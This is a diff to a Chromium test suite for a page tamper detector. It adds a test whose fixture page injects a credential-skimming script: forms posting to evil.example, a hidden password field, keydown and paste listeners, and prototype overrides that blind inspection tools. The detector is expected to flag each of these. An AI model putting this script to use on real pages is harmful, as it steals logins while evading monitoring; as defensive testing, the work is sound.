@@ -1,8 +1,9 @@
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { comparePage, learnPage } from '@mdmkit/monitor/tamper';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { acceptBaseline, brokenVersions, proposeBaselines } from '../../src/journeys/baselines.ts';
-import { createJourneys } from '../../src/journeys/journeys.ts';
+import { createJourneys, type Journeys } from '../../src/journeys/journeys.ts';
 import { createSqliteStore } from '../../src/store/sqlite/create-sqlite-store.ts';
 import type { Store } from '../../src/store/store.ts';
 import { browserProgram, hasBrowser } from '../support/browser.ts';
@@ -21,6 +22,7 @@ describe.skipIf(!hasBrowser)(`tamper detection in Chromium${needsChromium}`, () 
   let folder: TemporaryFolder;
   let store: Store;
   let origin = '';
+  let journeys: Journeys;
   const server = createServer((request, response) => {
     if (request.url !== '/login') return void response.writeHead(404).end();
     // The plain client counts as a load of its own.
@@ -35,34 +37,37 @@ describe.skipIf(!hasBrowser)(`tamper detection in Chromium${needsChromium}`, () 
     folder = await temporaryFolder();
     store = createSqliteStore({ folder: folder.path });
     await store.migrate();
+    journeys = createJourneys({ settings: () => ({}), memory: store });
   });
   afterAll(async () => {
+    await journeys[Symbol.asyncDispose]();
     await store.close();
     server.closeAllConnections();
     server.close();
     await folder[Symbol.asyncDispose]();
   });
 
+  const loadOf = async (target: string) => {
+    const outcome = await journeys.run(
+      {
+        target,
+        url: origin,
+        plan: { steps: [{ goto: '/login' }, { fingerprint: 'sign-in' }] },
+        secrets: {},
+        allowedOrigins: [origin],
+        locale: 'en-US',
+        timeZone: 'UTC',
+        serviceWorkers: false,
+        limits: { stepMs: 60_000, navigationMs: 60_000, journeyMs: 240_000 },
+      },
+      new AbortController().signal,
+    );
+    expect(outcome.failure).toBeUndefined();
+    return outcome;
+  };
+
   test('a page is learned, accepted, found tampered, and accepted again', async () => {
-    await using journeys = createJourneys({ settings: () => ({}), memory: store });
-    const load = async () => {
-      const outcome = await journeys.run(
-        {
-          target: 'own/browser',
-          url: origin,
-          plan: { steps: [{ goto: '/login' }, { fingerprint: 'sign-in' }] },
-          secrets: {},
-          allowedOrigins: [origin],
-          locale: 'en-US',
-          timeZone: 'UTC',
-          serviceWorkers: false,
-          limits: { stepMs: 60_000, navigationMs: 60_000, journeyMs: 240_000 },
-        },
-        new AbortController().signal,
-      );
-      expect(outcome.failure).toBeUndefined();
-      return outcome.judged[0];
-    };
+    const load = async () => (await loadOf('own/browser')).judged[0];
     for (let count = 1; count <= 5; count += 1) {
       expect(await load()).toMatchObject({ state: 'learning' });
       const [proposal] = await proposeBaselines(store, 'own/browser');
@@ -113,5 +118,48 @@ describe.skipIf(!hasBrowser)(`tamper detection in Chromium${needsChromium}`, () 
     expect(await load()).toMatchObject({ state: 'seen-once' });
     expect(await load()).toMatchObject({ state: 'seen-once' });
     expect(await load()).toMatchObject({ state: 'tampered' });
+  });
+
+  test('a page that replaces what reads it, and hides what it does, is read all the same', async () => {
+    [html, attack] = [plain, ''];
+    const [before] = (await loadOf('other/browser')).pages;
+    html = `${plain}<form name="querySelectorAll" action="https://evil.example/a"><input name="attributes"><input
+      name="tagName"></form><img name="body"><div id="host"></div><i id="by-hand"></i><script>
+      const frame = document.body.appendChild(document.createElement('iframe'));
+      const clean = frame.contentWindow;
+      clean.EventTarget.prototype.addEventListener.call(document, 'keydown', () => {});
+      clean.EventTarget.prototype.addEventListener.call(window, 'paste', () => {});
+      clean.Element.prototype.attachShadow.call(host, { mode: 'closed' }).innerHTML =
+        '<form action="https://evil.example/b"><input type="password" name="again"></form>';
+      frame.remove();
+      document.getElementById('by-hand').oninput = () => {};
+      for (const kind of [Document, DocumentFragment, Element]) kind.prototype.querySelectorAll = () => [];
+      Element.prototype.getAttribute = () => '';
+      Element.prototype.getAttributeNames = () => [];
+      for (const name of ['map', 'flatMap', 'filter', 'join', 'slice', 'push']) Array.prototype[name] = () => [];
+      Array.prototype[Symbol.iterator] = function* () {};
+      window.getComputedStyle = () => ({});
+      window.DOMParser = class { parseFromString() { return document.implementation.createHTMLDocument(); } };
+      window.PerformanceObserver = class { observe() {} };
+      window.setTimeout = () => 0;
+      JSON.stringify = () => '{}';
+      const notes = globalThis[Symbol.for('health-check.page')];
+      try { notes.calls = ''; } catch {}
+      try { globalThis[Symbol.for('health-check.page')] = { calls: '' }; } catch {}
+      </script>`;
+    const [after] = (await loadOf('other/browser')).pages;
+    if (!before || !after) throw new Error('a page was not read');
+    const added = comparePage(learnPage([before]), after).filter(({ kind }) => kind === 'added');
+    expect(added.map(({ property, value, severity }) => `${severity} ${property} ${value}`)).toEqual(
+      expect.arrayContaining([
+        'critical forms get https://evil.example/a',
+        'critical forms get https://evil.example/b',
+        'critical inputs password:again in a form',
+        'critical listeners keydown@document',
+        'critical listeners paste@window',
+        'medium listeners input@i',
+        'critical received forms get https://evil.example/a',
+      ]),
+    );
   });
 });
